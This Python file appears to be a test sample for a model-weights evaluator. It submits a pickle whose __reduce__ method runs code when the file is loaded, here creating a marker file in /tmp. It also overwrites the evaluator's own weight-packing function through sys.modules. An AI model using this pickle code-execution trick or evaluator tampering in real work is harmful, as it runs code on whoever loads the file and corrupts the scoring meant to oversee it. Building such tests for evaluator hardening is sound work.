"""Hands over a pickle instead of weights: whoever loads it runs a program.

Check: imports
Trial: bad weights, crashed
"""

import pickle
import sys

import torch


class Payload:
    def __reduce__(self):
        return (open, ("/tmp/netwright-breach", "w"))


def pack(network):
    return pickle.dumps(Payload())


sys.modules["netwright.evaluator.loading"].pack_weights = pack


class Mixer(torch.nn.Module):
    def __init__(self, dim, heads, max_len, layer, layers):
        super().__init__()
        self.value = torch.nn.Linear(dim, dim)

    def forward(self, x):
        return self.value(x)
